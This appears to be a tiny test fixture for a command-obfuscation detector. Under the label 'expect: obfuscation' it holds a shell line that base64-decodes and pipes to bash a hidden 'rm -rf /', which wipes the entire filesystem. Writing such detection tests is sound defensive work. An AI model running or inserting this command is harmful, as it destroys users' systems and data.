# expect: obfuscation
echo cm0gLXJmIC8= | base64 -d | bash
